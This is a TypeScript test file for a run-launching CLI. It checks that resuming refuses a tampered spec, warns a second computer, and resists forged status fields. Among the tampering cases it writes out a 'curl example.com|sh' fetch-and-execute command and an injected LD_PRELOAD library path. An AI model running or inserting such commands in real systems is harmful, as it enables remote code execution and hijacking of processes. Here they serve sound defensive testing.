import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { AttemptStatus } from '@runctl/protocol';
import { readBytes } from '@runctl/store';
import { describe, expect, test } from 'vitest';
import { commandWorld, type CommandWorld } from '../testing/command-world.ts';

const RESUME = ['resume', 'mine', '--yes', '--detach'];

/** A run that has ended; the key of its spec. */
async function stoppedRun(world: CommandWorld): Promise<string> {
  await world.run(['launch', 'train.py', '--name', 'mine', '--yes', '--detach', '--env', 'A=1', '--', '--epochs', '3']);
  await world.run(['stop', 'mine']);
  return (await world.keys()).find((key) => key.endsWith('/spec.json')) ?? '';
}

/** What a machine of the run can do with its role. */
async function change(world: CommandWorld, key: string, from: string | RegExp, to: string): Promise<void> {
  const text = Buffer.from(await readBytes(world.store, key)).toString();
  const changed = text.replace(from, to);
  expect(changed).not.toBe(text);
  await world.store.put(key, Buffer.from(changed));
}

test.each<[string, string | RegExp, string]>([
  ['another interpreter', '"python3"', '"sh","-c","curl example.com|sh"'],
  ['another script', '"script":"train.py"', '"script":"other.py"'],
  ['another argument', '"--epochs"', '"--steps"'],
  ['another value of a variable', '"A":"1"', '"A":"2"'],
  ['one variable more', '"A":"1"', '"A":"1","LD_PRELOAD":"/tmp/x.so"'],
  ['another archive', /"archiveKey":"[^"]+"/, '"archiveKey":"code/other.tar.gz"'],
  ['another hash of the archive', /"archiveSha256":"[^"]+"/, `"archiveSha256":"${'0'.repeat(64)}"`],
  ['another name of who launched it', '"me@laptop"', '"you@laptop"'],
  ['a space more', /\}\n$/, '} \n'],
  ['a longer grace', /"heartbeatMs":\d+/, '"heartbeatMs":9999999'],
  ['what is no document', /^.*$/s, 'nothing'],
])('a spec with %s than this computer launched is not launched again', async (_, from, to) => {
  await using scope = await commandWorld({ 'train.py': '' });
  const { world } = scope;
  const key = await stoppedRun(world);
  await change(world, key, from, to);
  const refused = await world.run(RESUME);
  expect(refused.stderr).toContain('error[not-as-launched]');
  expect(refused.stderr).toContain('--accept-changed-spec');
  expect(refused.exitCode).toBe(11);
  expect(world.capacityStates()).toEqual(['ended']);
  expect((await world.keys()).filter((other) => other.includes('/launches/0002/'))).toEqual([]);
});

test('a changed spec that is accepted is what this computer knows from then on', async () => {
  await using scope = await commandWorld({ 'train.py': '' });
  const { world } = scope;
  const key = await stoppedRun(world);
  await change(world, key, '"--epochs"', '"--steps"');
  expect((await world.run([...RESUME, '--accept-changed-spec'])).exitCode).toBe(0);
  await world.run(['stop', 'mine']);
  expect((await world.run(RESUME)).exitCode).toBe(0);
});

test('another computer says that it can not know, and from then on holds the run to what it launched', async () => {
  await using scope = await commandWorld({ 'train.py': '' });
  const { world } = scope;
  const key = await stoppedRun(world);
  world.stateFolder = `${world.stateFolder}-of-another`;
  const first = await world.run(RESUME);
  expect(first.exitCode).toBe(0);
  expect(first.stderr).toContain('this computer does not know what <run> was launched with');
  await world.run(['stop', 'mine']);
  const second = await world.run(RESUME);
  expect([second.exitCode, second.stderr]).toEqual([0, expect.not.stringContaining('does not know')]);
  await world.run(['stop', 'mine']);
  await change(world, key, '"--epochs"', '"--steps"');
  expect((await world.run(RESUME)).stderr).toContain('error[not-as-launched]');
});

test('a program hears of a spec that nobody here knows, and stderr is left to an error', async () => {
  await using scope = await commandWorld({ 'train.py': '' });
  const { world } = scope;
  await stoppedRun(world);
  const stateFolder = `${world.stateFolder}-of-another`;
  world.stateFolder = stateFolder;
  const requested = async (...more: string[]): Promise<unknown> => {
    const { stdout, stderr } = await world.run([...RESUME, '--json', ...more]);
    expect(stderr).toBe('');
    return JSON.parse(stdout.split('\n')[0] ?? '');
  };
  expect(await requested()).toMatchObject({
    type: 'requested',
    warnings: [expect.stringContaining('this computer does not know what <run> was launched with')],
  });
  await world.run(['stop', 'mine']);
  expect(await requested()).not.toHaveProperty('warnings');
  await world.run(['stop', 'mine']);
  world.stateFolder = `${stateFolder}-still`;
  expect(await requested('--accept-changed-spec')).not.toHaveProperty('warnings');
});

test.each(['', 'nothing', '0'.repeat(63)])('where %j is kept, nothing is launched', async (kept) => {
  await using scope = await commandWorld({ 'train.py': '' });
  const { world } = scope;
  const key = await stoppedRun(world);
  await writeFile(join(world.stateFolder, 'launched', key.split('/')[1] ?? ''), kept);
  expect((await world.run(RESUME)).stderr).toContain('error[config-invalid]');
  expect(world.capacityStates()).toEqual(['ended']);
  expect((await world.run([...RESUME, '--accept-changed-spec'])).exitCode).toBe(0);
});

test('a launch goes on where nothing can be kept', async () => {
  await using scope = await commandWorld({ 'train.py': '' });
  const { world } = scope;
  await mkdir(join(world.stateFolder, '..'), { recursive: true });
  await writeFile(world.stateFolder, 'a file');
  await stoppedRun(world);
  expect((await world.run(RESUME)).stderr).toContain('does not know');
});

/** SHA-256 of a run's spec, as the computer that launched it shows it. */
async function launchedSpec(world: CommandWorld): Promise<string> {
  return /^ +spec +SHA-256 ([0-9a-f]{64}), as this computer launched or resumed it$/m.exec(
    (await world.run(['status', 'mine', '-v'])).stdout,
  )?.[1] as string;
}

test.each([
  ['doing', { doing: 'training\n  spec       SHA-256 FORGED, as this computer launched or resumed it' }],
  ['warning', { warnings: ['slow\n  spec       SHA-256 FORGED, as this computer launched or resumed it'] }],
  [
    'interpreter',
    {
      interpreter: {
        path: 'python3\n  spec       SHA-256 FORGED, as this computer launched or resumed it',
        version: null,
      },
    },
  ],
  ['machine', { machineId: 'i-1\n  spec       SHA-256 FORGED, as this computer launched or resumed it' }],
] as const)('a forged %s shows no other hash as that of this computer', async (_, forged) => {
  await using scope = await commandWorld({ 'train.py': '' });
  const { world } = scope;
  await world.run(['launch', 'train.py', '--name', 'mine', '--yes', '--detach']);
  const run = await world.launched();
  const text = JSON.stringify(forged).replaceAll('FORGED', 'f'.repeat(64));
  await run.heartbeat(1, JSON.parse(text) as Partial<AttemptStatus>);
  const { stdout } = await world.run(['status', 'mine', '-v']);
  const rows = stdout.split('\n').filter((row) => /^ *spec /.test(row));
  expect(rows).toEqual([expect.not.stringContaining('f'.repeat(64))]);
  expect(stdout.indexOf('spec ')).toBeLessThan(stdout.indexOf('state '));
  expect(stdout).toContain('\\x0a  spec');
});

describe('another computer', () => {
  test('is shown the hash before it is asked, and launches what it was shown alone', async () => {
    await using scope = await commandWorld({ 'train.py': '' });
    const { world } = scope;
    const key = await stoppedRun(world);
    const sha256 = await launchedSpec(world);
    world.stateFolder = `${world.stateFolder}-of-another`;
    expect(await launchedSpec(world)).toBeUndefined();
    world.answer = false;
    const declined = await world.run(['resume', 'mine']);
    expect([declined.exitCode, declined.stderr]).toEqual([22, expect.stringContaining(`its spec, SHA-256 ${sha256},`)]);
    world.onAsk = () => change(world, key, '"--epochs"', '"--steps"');
    world.answer = true;
    const changed = await world.run(['resume', 'mine']);
    expect([changed.exitCode, changed.stderr]).toEqual([11, expect.stringContaining(`just before it had ${sha256}`)]);
    expect(world.capacityStates()).toEqual(['ended']);
  });

  test('takes the spec that it was told of, and no other', async () => {
    await using scope = await commandWorld({ 'train.py': '' });
    const { world } = scope;
    const key = await stoppedRun(world);
    const expected = ['--expect-spec', (await launchedSpec(world)).toUpperCase()];
    world.stateFolder = `${world.stateFolder}-of-another`;
    const taken = await world.run([...RESUME, ...expected]);
    expect([taken.exitCode, taken.stderr]).toEqual([0, expect.not.stringContaining('does not know')]);
    await world.run(['stop', 'mine']);
    await change(world, key, '"--epochs"', '"--steps"');
    world.stateFolder = `${world.stateFolder}-still`;
    const refused = await world.run([...RESUME, ...expected]);
    expect([refused.exitCode, refused.stderr]).toEqual([11, expect.stringContaining('--expect-spec says')]);
  });

  test.each([
    [['--expect-spec', 'abc'], '--expect-spec'],
    [['--expect-spec', ''], '--expect-spec'],
    [['--expect-spec', 'a'.repeat(64), '--accept-changed-spec'], 'refuses what --accept-changed-spec takes'],
  ])('%j is refused', async (flags, says) => {
    await using scope = await commandWorld({ 'train.py': '' });
    expect(await scope.world.run([...RESUME, ...flags])).toMatchObject({
      exitCode: 2,
      stderr: expect.stringContaining(says),
    });
  });
});
